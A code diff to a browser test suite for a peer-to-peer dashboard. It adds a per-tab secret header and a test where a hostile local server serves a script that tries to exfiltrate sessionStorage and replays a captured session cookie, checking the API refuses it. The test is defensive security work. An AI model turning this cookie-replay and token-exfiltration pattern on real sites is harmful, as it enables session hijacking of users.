@@ -53,9 +53,10 @@ describe('dashboard in Chromium', function () {
     contexts.push(context)
     const page = await context.newPage()
     const first = await page.goto(url)
-    assert.equal(new URL(page.url()).pathname, '/', 'the login redirects to the page, the code leaves the address bar')
     assert.equal(first?.status(), 200)
     await page.waitForSelector('#peer-id')
+    assert.equal(page.url(), `${a.origin}/`, 'the login redirects to the page; the code and the secret leave the address bar')
+    assert.match(await page.evaluate<string>('sessionStorage.getItem("shoal-ui-secret")'), /^[\w-]{43}$/)
     assert.equal(await page.textContent('#peer-id'), a.peer.peerId.toString())
     const cookies = await context.cookies(a.origin)
     assert.equal(cookies.length, 1)
@@ -80,8 +81,11 @@ describe('dashboard in Chromium', function () {
     assert.match(csp, /script-src 'self' 'sha256-[A-Za-z0-9+/=]+'(;|$)/)
     assert.match(csp, /style-src 'self'(;|$)/)
     await dashA.page.waitForSelector('#peer-id')
-    const status = await dashA.page.evaluate(async () => (await fetch('/api/v1/status')).headers.get('content-security-policy'))
-    assert.equal(status, csp)
+    const status = await dashA.page.evaluate(async () => {
+      const res = await fetch('/api/v1/status', { headers: { 'x-shoal-ui': sessionStorage.getItem('shoal-ui-secret') ?? '' } })
+      return [res.status, res.headers.get('content-security-policy')]
+    })
+    assert.deepEqual(status, [200, csp])
     for (const view of ['file', 'network', 'swarm', 'peer']) {
       await dashA.page.click(`nav a[data-view=${view}]`)
       await dashA.page.waitForSelector('main section.panel')
@@ -96,7 +100,8 @@ describe('dashboard in Chromium', function () {
     const cookie = (await dashA.context.cookies(a.origin)).map(c => `${c.name}=${c.value}`).join('; ')
     const withSession = await rawRequest(a, 'GET', '/api/v1/status', { host: `rebound.example:${new URL(a.origin).port}`, cookie })
     assert.equal(withSession.status, 403)
-    const right = await rawRequest(a, 'GET', '/api/v1/status', { host: new URL(a.origin).host, cookie })
+    const secret = await dashA.page.evaluate<string>('sessionStorage.getItem("shoal-ui-secret")')
+    const right = await rawRequest(a, 'GET', '/api/v1/status', { host: new URL(a.origin).host, cookie, 'x-shoal-ui': secret })
     assert.equal(right.status, 200)
   })
 
@@ -130,8 +135,64 @@ describe('dashboard in Chromium', function () {
     const host = new URL(a.origin).host
     const noHeader = await rawRequest(a, 'POST', '/api/v1/store/gc', { host, cookie, origin: a.origin })
     assert.equal(noHeader.status, 403, 'without X-Shoal-UI')
-    const otherOrigin = await rawRequest(a, 'POST', '/api/v1/store/gc', { host, cookie, origin: 'http://127.0.0.1:1', 'x-shoal-ui': '1' })
+    const secret = await dashA.page.evaluate<string>('sessionStorage.getItem("shoal-ui-secret")')
+    const otherOrigin = await rawRequest(a, 'POST', '/api/v1/store/gc', { host, cookie, origin: 'http://127.0.0.1:1', 'x-shoal-ui': secret })
     assert.equal(otherOrigin.status, 403, 'from another origin')
+  })
+
+  it('a server on another port of 127.0.0.1 gets the session cookie but never the secret, and its replay of the cookie is refused', async () => {
+    const { context, page } = await openDashboard(browser, a)
+    contexts.push(context)
+    const secret = await page.evaluate<string>('sessionStorage.getItem("shoal-ui-secret")')
+    assert.match(secret, /^[\w-]{43}$/)
+    // what the other server receives: every request line and header, and what its page can read
+    const seen: string[] = []
+    let reported!: () => void
+    const report = new Promise<void>(resolve => { reported = resolve })
+    const evil = http.createServer((req, res) => {
+      seen.push(`${req.method ?? ''} ${req.url ?? ''}\n${JSON.stringify(req.headers)}`)
+      if (req.url?.startsWith('/report') === true) {
+        res.end()
+        reported()
+        return
+      }
+      res.setHeader('content-type', 'text/html')
+      res.end(`<script>fetch('/report?' + new URLSearchParams({ stored: String(sessionStorage.getItem('shoal-ui-secret')), referrer: document.referrer, href: location.href }))</script>`)
+    })
+    await new Promise<void>(resolve => { evil.listen(0, '127.0.0.1', resolve) })
+    try {
+      const port = (evil.address() as { port: number }).port
+      // the logged-in tab itself goes there (the same tab: its sessionStorage, its history)
+      await page.goto(`http://127.0.0.1:${port}/`)
+      await report
+      const cookieName = `shoal_ui_${new URL(a.origin).port}`
+      const logged = seen.join('\n')
+      assert.match(logged, new RegExp(`${cookieName}=[\\w-]{43}`), 'the browser sends the cookie to another port')
+      assert.equal(logged.includes(secret), false, 'never the secret')
+      assert.match(logged, /stored=null/)
+      // the other server replays the cookie as a script would, setting Host, Origin and X-Shoal-UI itself
+      const cookie = /shoal_ui_\d+=[\w-]{43}/.exec(logged)![0]
+      const replay = async (method: string, route: string, ui: string): Promise<number> => (await fetch(`${a.origin}/api/v1${route}`, {
+        method, headers: { cookie, origin: a.origin, 'x-shoal-ui': ui }
+      })).status
+      assert.equal(await replay('GET', '/status', '1'), 403)
+      assert.equal(await replay('GET', '/events', ''), 403)
+      assert.equal(await replay('POST', '/store/gc', '1'), 403)
+      assert.equal(await replay('GET', '/status', secret), 200, 'the same replay with the secret passes: the secret is what keeps it out')
+      // back on the dashboard in the same tab: the secret is still there (a reload keeps it)
+      await page.goto(`${a.origin}/#/peer`)
+      await page.waitForSelector('#live.on')
+      assert.equal(await page.textContent('#peer-id'), a.peer.peerId.toString())
+    } finally {
+      await new Promise<void>(resolve => { evil.close(() => { resolve() }) })
+    }
+  })
+
+  it('asks for a login in a tab that has the cookie but not the secret', async () => {
+    const page = await dashA.context.newPage()
+    await page.goto(`${a.origin}/#/peer`)
+    await page.locator('main', { hasText: 'Not logged in' }).waitFor()
+    await page.close()
   })
 
   it('shares a file through the file picker: it is listed as shared and each block is coloured as stat finds its holders', async () => {
